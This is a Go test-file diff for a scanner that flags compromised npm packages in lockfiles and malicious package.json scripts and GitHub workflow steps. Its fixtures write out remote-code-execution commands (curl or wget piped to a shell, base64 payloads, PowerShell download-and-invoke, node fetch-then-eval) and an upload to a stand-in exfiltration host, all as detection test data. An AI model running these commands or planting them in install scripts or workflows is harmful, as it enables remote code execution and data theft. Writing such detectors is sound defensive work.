@@ -1,6 +1,9 @@
 package scanner
 
 import (
+	"os"
+	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -138,6 +141,92 @@ test-muaddib-vulnerable,1.0.0,"test"`
 	}
 }
 
+func TestScanner_DetectsVulnerablePackageInPnpmLock(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+@test-muaddib/scoped,2.0.0,"test"
+test-muaddib-vulnerable,1.0.0,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "packages/app/pnpm-lock.yaml",
+			Content: `lockfileVersion: '6.0'
+
+packages:
+  /test-muaddib-vulnerable@1.0.0:
+    resolution: {integrity: sha512-test}
+    dev: false
+
+  /@test-muaddib/scoped@2.0.0:
+    resolution: {integrity: sha512-test}
+    dev: true
+
+  /test-muaddib-safe@1.0.0:
+    resolution: {integrity: sha512-test}
+    dev: false
+`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if result.FilesScanned != 1 {
+		t.Errorf("expected 1 file scanned, got %d", result.FilesScanned)
+	}
+	if len(result.VulnerablePackages) != 2 {
+		t.Fatalf("expected 2 vulnerable packages, got %d", len(result.VulnerablePackages))
+	}
+	for _, vp := range result.VulnerablePackages {
+		if vp.FilePath != "packages/app/pnpm-lock.yaml" {
+			t.Errorf("expected finding in pnpm-lock.yaml, got %s", vp.FilePath)
+		}
+	}
+}
+
+func TestScanner_DetectsVulnerablePackageInYarnLock(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+test-muaddib-vulnerable,1.0.0,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "yarn.lock",
+			Content: `# yarn lockfile v1
+
+test-muaddib-vulnerable@^1.0.0:
+  version "1.0.0"
+  resolved "https://registry.yarnpkg.com/test-muaddib-vulnerable/-/test-muaddib-vulnerable-1.0.0.tgz"
+
+test-muaddib-safe@^1.0.0:
+  version "1.0.0"
+`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if len(result.VulnerablePackages) != 1 {
+		t.Fatalf("expected 1 vulnerable package, got %d", len(result.VulnerablePackages))
+	}
+	if result.VulnerablePackages[0].Package.Name != "test-muaddib-vulnerable" {
+		t.Errorf("expected test-muaddib-vulnerable, got %s", result.VulnerablePackages[0].Package.Name)
+	}
+}
+
 func TestScanner_DetectsMultipleVulnerableVersions(t *testing.T) {
 	// Test that comma-separated versions are all detected
 	csvData := `package_name,package_versions,sources
@@ -513,8 +602,8 @@ test-muaddib-dup,1.0.0,"test"`
 
 	result := scanner.ScanFiles(files)
 
-	// Note: Current implementation may report duplicates from different files
-	// This is actually useful to show which files contain the vulnerability
+	// Duplicates from different files are kept by default to show which files
+	// contain the vulnerability; WithDedupe collapses them (see dedupe_test.go)
 	// So we just verify it's found at least once
 	if len(result.VulnerablePackages) < 1 {
 		t.Errorf("expected at least 1 vulnerable package, got %d", len(result.VulnerablePackages))
@@ -587,6 +676,61 @@ jobs:
 	}
 }
 
+func TestScanner_CheckWorkflows_MatchesDefaultPatterns(t *testing.T) {
+	testCases := []struct {
+		name     string
+		run      string
+		expected string
+		kind     string
+	}{
+		{"reworded discussion echo", `echo "${{github.event.discussion.body}}"`, MaliciousWorkflowPattern, WorkflowKindWormPattern},
+		{"curl piped to bash", "curl -sSL https://example.invalid/x.sh | bash", "remote script piped to a shell", WorkflowKindRemoteCodeExecution},
+		{"wget piped to sudo sh", "wget -qO- https://example.invalid/x.sh | sudo sh", "remote script piped to a shell", WorkflowKindRemoteCodeExecution},
+		{"base64 payload", "echo aGVsbG8= | base64 --decode | sh", "base64-decoded payload piped to a shell", WorkflowKindRemoteCodeExecution},
+		{"download to a file", "curl -sSfo tool.tgz https://example.invalid/tool.tgz", "", ""},
+	}
+
+	scanner := NewScanner(vuln.NewVulnDB(), true)
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			workflows := []*github.WorkflowFile{
+				{RepoName: "test-org/test-repo", Path: ".github/workflows/ci.yaml", Content: "jobs:\n  build:\n    steps:\n      - run: " + tc.run + "\n"},
+			}
+
+			malicious := scanner.CheckWorkflows(workflows)
+
+			if tc.expected == "" {
+				if len(malicious) != 0 {
+					t.Errorf("expected no match, got %+v", malicious[0])
+				}
+				return
+			}
+			if len(malicious) != 1 || malicious[0].Pattern != tc.expected {
+				t.Fatalf("expected a single match for %q, got %+v", tc.expected, malicious)
+			}
+			if malicious[0].Kind != tc.kind {
+				t.Errorf("expected kind %s, got %s", tc.kind, malicious[0].Kind)
+			}
+		})
+	}
+}
+
+func TestScanner_CheckWorkflows_CustomPatterns(t *testing.T) {
+	scanner := NewScanner(vuln.NewVulnDB(), true, WithWorkflowPatterns([]WorkflowPattern{
+		{Name: "test-muaddib exfiltration", Regexp: regexp.MustCompile(`test-muaddib-exfil\.invalid`)},
+	}))
+	workflows := []*github.WorkflowFile{
+		{RepoName: "test-org/test-repo", Path: ".github/workflows/ci.yaml", Content: "run: |\n  echo ${{ github.event.discussion.body }}\n  node upload.js https://test-muaddib-exfil.invalid\n"},
+	}
+
+	malicious := scanner.CheckWorkflows(workflows)
+
+	if len(malicious) != 2 || malicious[0].Pattern != MaliciousWorkflowPattern || malicious[1].Pattern != "test-muaddib exfiltration" {
+		t.Errorf("expected the default and custom patterns to match, got %+v", malicious)
+	}
+}
+
 func TestScanner_CheckWorkflows_EmptyList(t *testing.T) {
 	scanner := NewScanner(vuln.NewVulnDB(), true)
 
@@ -922,3 +1066,380 @@ func TestScanner_CheckPackageScripts_DetectsAllMaliciousPatterns(t *testing.T) {
 		}
 	}
 }
+
+func TestScanner_OptionalPeerIsLowConfidence(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+test-muaddib-required-peer,1.0.0,"test"
+test-muaddib-optional-peer,1.0.0,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "package.json",
+			Content: `{
+				"peerDependencies": {
+					"test-muaddib-required-peer": "1.0.0",
+					"test-muaddib-optional-peer": "^1.0.0"
+				},
+				"peerDependenciesMeta": {
+					"test-muaddib-optional-peer": {"optional": true}
+				}
+			}`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if len(result.VulnerablePackages) != 2 {
+		t.Fatalf("expected 2 vulnerable packages, got %d", len(result.VulnerablePackages))
+	}
+
+	for _, vp := range result.VulnerablePackages {
+		switch vp.Package.Name {
+		case "test-muaddib-required-peer":
+			if vp.Confidence != ConfidenceHigh {
+				t.Errorf("expected required peer to be high confidence, got %s", vp.Confidence)
+			}
+		case "test-muaddib-optional-peer":
+			if vp.Confidence != ConfidenceLow || vp.ConfidenceNote == "" {
+				t.Errorf("expected optional peer to be low confidence with a note, got %s %q", vp.Confidence, vp.ConfidenceNote)
+			}
+		}
+	}
+}
+
+func TestScanner_DetectsOverridePinnedVersionInV3Lockfile(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+test-muaddib-transitive,2.0.1,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "package-lock.json",
+			Content: `{
+				"lockfileVersion": 3,
+				"packages": {
+					"": {
+						"name": "test-project",
+						"overrides": {"test-muaddib-parent": {"test-muaddib-transitive": "2.0.1"}}
+					},
+					"node_modules/test-muaddib-parent": {"version": "1.0.0"}
+				}
+			}`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if len(result.VulnerablePackages) != 1 {
+		t.Fatalf("expected 1 vulnerable package, got %d", len(result.VulnerablePackages))
+	}
+	if vp := result.VulnerablePackages[0]; vp.Package.Name != "test-muaddib-transitive" || vp.Package.Source != "override" {
+		t.Errorf("expected override-pinned test-muaddib-transitive, got %s (%s)", vp.Package.Name, vp.Package.Source)
+	}
+}
+
+func TestScanner_OverridePinsSafeVersionOfDeclaredRange(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+test-muaddib-pinned,1.0.0,"test"
+test-muaddib-resolved,1.0.0,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "package.json",
+			Content: `{
+				"dependencies": {"test-muaddib-pinned": "^1.0.0"},
+				"overrides": {"test-muaddib-pinned": "1.0.1"},
+				"resolutions": {"**/test-muaddib-resolved": "1.0.2"}
+			}`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if len(result.VulnerablePackages) != 0 {
+		t.Errorf("expected the override to suppress the declared range, got %s@%s",
+			result.VulnerablePackages[0].Package.Name, result.VulnerablePackages[0].Package.Version)
+	}
+}
+
+func TestScanner_PrefersLockfileVersionOverDeclaredRange(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+test-muaddib-pkg,1.0.0,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "package.json",
+			Content:  `{"dependencies": {"test-muaddib-pkg": "^1.0.0"}}`,
+		},
+		{
+			RepoName: "test-repo",
+			Path:     "package-lock.json",
+			Content: `{
+				"lockfileVersion": 3,
+				"packages": {
+					"": {"name": "test-project"},
+					"node_modules/test-muaddib-pkg": {"version": "1.2.0"}
+				}
+			}`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if len(result.VulnerablePackages) != 0 {
+		t.Errorf("expected the lockfile's safe version to replace the declared range, got %d findings", len(result.VulnerablePackages))
+	}
+	if result.TotalPackages != 1 {
+		t.Errorf("expected only the resolved package to be counted, got %d", result.TotalPackages)
+	}
+}
+
+func TestScanner_LockfileOnlyResolvesItsOwnDirectory(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+test-muaddib-pkg,1.0.0,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "tools/package.json",
+			Content:  `{"dependencies": {"test-muaddib-pkg": "^1.0.0"}}`,
+		},
+		{
+			RepoName: "test-repo",
+			Path:     "app/package-lock.json",
+			Content: `{
+				"lockfileVersion": 3,
+				"packages": {
+					"": {"name": "test-app"},
+					"node_modules/test-muaddib-pkg": {"version": "1.2.0"}
+				}
+			}`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if len(result.VulnerablePackages) != 1 || result.VulnerablePackages[0].FilePath != "tools/package.json" {
+		t.Errorf("expected the declared range in tools/ to be checked despite the lockfile in app/, got %d findings",
+			len(result.VulnerablePackages))
+	}
+}
+
+func TestScanner_ScopeWideIOCIsMediumConfidence(t *testing.T) {
+	csvData := `package_name,package_versions,sources
+@test-muaddib/*,*,"test"`
+
+	db, err := vuln.ParseCSVForTest(strings.NewReader(csvData))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+
+	scanner := NewScanner(db, true)
+	files := []*github.PackageFile{
+		{
+			RepoName: "test-repo",
+			Path:     "package.json",
+			Content: `{"dependencies": {
+				"@test-muaddib/one": "1.0.0",
+				"@test-muaddib/two": "^2.0.0",
+				"test-muaddib-unscoped": "1.0.0"
+			}}`,
+		},
+	}
+
+	result := scanner.ScanFiles(files)
+
+	if len(result.VulnerablePackages) != 2 {
+		t.Fatalf("expected 2 scope matches, got %d", len(result.VulnerablePackages))
+	}
+	for _, vp := range result.VulnerablePackages {
+		if !strings.HasPrefix(vp.Package.Name, "@test-muaddib/") {
+			t.Errorf("unexpected match %s", vp.Package.Name)
+		}
+		if vp.Confidence != ConfidenceMedium || !strings.Contains(vp.ConfidenceNote, "scope-level") {
+			t.Errorf("expected scope-level medium confidence for %s, got %s (%s)", vp.Package.Name, vp.Confidence, vp.ConfidenceNote)
+		}
+	}
+}
+
+func TestScanner_CheckPackageScripts_DetectsRemoteCodeExecution(t *testing.T) {
+	testCases := []struct {
+		name     string
+		scripts  string
+		expected string // The reported pattern, or "" for none
+	}{
+		{"curl piped to node", `{"postinstall": "curl -s https://example.invalid/x.js | node"}`, "remote script piped to an interpreter"},
+		{"wget piped to sh", `{"preinstall": "wget -qO- https://example.invalid/x.sh | sh"}`, "remote script piped to an interpreter"},
+		{"curl piped to sudo bash", `{"postinstall": "curl -fsSL https://example.invalid/x.sh | sudo bash -s"}`, "remote script piped to an interpreter"},
+		{"eval of curl output", `{"postinstall": "eval \"$(curl -s https://example.invalid/x.sh)\""}`, "remote script run by command substitution"},
+		{"bash process substitution", `{"install": "bash <(wget -qO- https://example.invalid/x.sh)"}`, "remote script run by command substitution"},
+		{"eval of base64 payload", `{"postinstall": "node -e \"eval(atob('Y29uc29sZS5sb2coMSk='))\""}`, "base64-decoded payload evaluated"},
+		{"base64 piped to sh", `{"preinstall": "echo Y3VybCB4 | base64 -d | sh"}`, "base64-decoded payload piped to a shell"},
+		{"powershell download and invoke", `{"install": "powershell -c \"Invoke-WebRequest https://example.invalid/x.ps1 | iex\""}`, "PowerShell download and invoke"},
+		{"fetch with node -e", `{"postinstall": "node -e \"fetch('https://example.invalid').then(r => r.text()).then(eval)\""}`, "inline node code fetching remote content"},
+		{"https.get with node -e", `{"postinstall": "node -e \"require('https').get('https://example.invalid/x.js', r => r.pipe(process.stdout))\""}`, "inline node code fetching remote content"},
+		{"download only", `{"postinstall": "curl -sSfo vendor/tool.tgz https://example.invalid/tool.tgz"}`, ""},
+		{"execute only", `{"postinstall": "node -e \"require('./setup')\""}`, ""},
+		{"base64 decode only", `{"postinstall": "base64 -d assets/logo.b64 > assets/logo.png"}`, ""},
+		{"non-lifecycle dropper", `{"bootstrap": "curl https://example.invalid/x.sh | bash"}`, ""},
+	}
+
+	scanner := NewScanner(vuln.NewVulnDB(), true)
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			files := []*github.PackageFile{
+				{RepoName: "test-org/test-repo", Path: "package.json", Content: `{"scripts": ` + tc.scripts + `}`},
+			}
+
+			malicious := scanner.CheckPackageScripts(files)
+
+			if tc.expected == "" {
+				if len(malicious) != 0 {
+					t.Fatalf("expected no malicious scripts, got %+v", malicious)
+				}
+				return
+			}
+			if len(malicious) != 1 {
+				t.Fatalf("expected 1 malicious script, got %d", len(malicious))
+			}
+			if malicious[0].Kind != ScriptKindRemoteCodeExecution {
+				t.Errorf("expected kind %s, got %s", ScriptKindRemoteCodeExecution, malicious[0].Kind)
+			}
+			if malicious[0].Pattern != tc.expected {
+				t.Errorf("expected pattern %q, got %q", tc.expected, malicious[0].Pattern)
+			}
+		})
+	}
+}
+
+func TestScanner_CheckPackageScripts_CustomScriptRegexps(t *testing.T) {
+	files := []*github.PackageFile{
+		{RepoName: "test-org/test-repo", Path: "package.json", Content: `{"scripts": {"postinstall": "npx test-muaddib-loader --remote https://example.invalid"}}`},
+	}
+
+	if malicious := NewScanner(vuln.NewVulnDB(), true).CheckPackageScripts(files); len(malicious) != 0 {
+		t.Fatalf("expected no match with the default patterns, got %+v", malicious)
+	}
+
+	scanner := NewScanner(vuln.NewVulnDB(), true, WithScriptRegexps([]ScriptPattern{
+		{Name: "test loader with remote source", Regexp: regexp.MustCompile(`test-muaddib-loader\s+--remote\b`)},
+	}))
+	malicious := scanner.CheckPackageScripts(files)
+	if len(malicious) != 1 || malicious[0].Pattern != "test loader with remote source" {
+		t.Fatalf("expected the custom pattern to be reported, got %+v", malicious)
+	}
+}
+
+func TestScanner_CheckPackageScripts_WormPatternKind(t *testing.T) {
+	scanner := NewScanner(vuln.NewVulnDB(), true)
+	files := []*github.PackageFile{
+		{RepoName: "test-org/test-repo", Path: "package.json", Content: `{"scripts": {"postinstall": "node bundle.js"}}`},
+	}
+
+	malicious := scanner.CheckPackageScripts(files)
+
+	if len(malicious) != 1 || malicious[0].Kind != ScriptKindWormPattern {
+		t.Errorf("expected a single worm pattern finding, got %+v", malicious)
+	}
+}
+
+func TestScanner_CheckPackageScripts_CustomPatterns(t *testing.T) {
+	scanner := NewScanner(vuln.NewVulnDB(), true, WithScriptPatterns([]string{"test-muaddib-loader.js", "node bundle.js", ""}))
+	files := []*github.PackageFile{
+		{RepoName: "test-org/test-repo", Path: "package.json", Content: `{"scripts": {
+			"preinstall": "node test-muaddib-loader.js",
+			"postinstall": "node bundle.js"
+		}}`},
+	}
+
+	malicious := scanner.CheckPackageScripts(files)
+
+	patterns := make(map[string]int)
+	for _, m := range malicious {
+		patterns[m.Pattern]++
+	}
+	if len(malicious) != 2 || patterns["test-muaddib-loader.js"] != 1 || patterns["node bundle.js"] != 1 {
+		t.Errorf("expected the custom and built-in patterns to match once each, got %v", patterns)
+	}
+}
+
+func TestReadScriptPatterns(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "patterns.txt")
+	content := "# new variant payloads\ntest-muaddib-loader.js\n\n  node test-muaddib-stage2.js  \n"
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	patterns, err := ReadScriptPatterns(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	expected := []string{"test-muaddib-loader.js", "node test-muaddib-stage2.js"}
+	if strings.Join(patterns, "|") != strings.Join(expected, "|") {
+		t.Errorf("expected %v, got %v", expected, patterns)
+	}
+
+	if _, err := ReadScriptPatterns(filepath.Join(t.TempDir(), "missing.txt")); err == nil {
+		t.Error("expected an error for a missing file")
+	}
+}
+
+func TestScanner_SkipOptional(t *testing.T) {
+	db, err := vuln.ParseCSVForTest(strings.NewReader("package_name,package_versions,sources\ntest-muaddib-optional,3.0.0,test\ntest-muaddib-declared,1.0.0,test"))
+	if err != nil {
+		t.Fatalf("failed to create test DB: %v", err)
+	}
+	files := []*github.PackageFile{
+		{RepoName: "test-org/test-repo", Path: "package-lock.json", Content: `{"lockfileVersion": 3, "packages": {
+			"node_modules/test-muaddib-optional": {"version": "3.0.0", "optional": true}
+		}}`},
+		{RepoName: "test-org/test-repo", Path: "package.json", Content: `{"optionalDependencies": {"test-muaddib-declared": "1.0.0"}}`},
+	}
+
+	if result := NewScanner(db, true).ScanFiles(files); len(result.VulnerablePackages) != 2 {
+		t.Errorf("expected optional dependencies to be scanned by default, got %d findings", len(result.VulnerablePackages))
+	}
+	if result := NewScanner(db, true, WithSkipOptional(true)).ScanFiles(files); len(result.VulnerablePackages) != 0 {
+		t.Errorf("expected optional dependencies to be skipped, got %+v", result.VulnerablePackages)
+	}
+}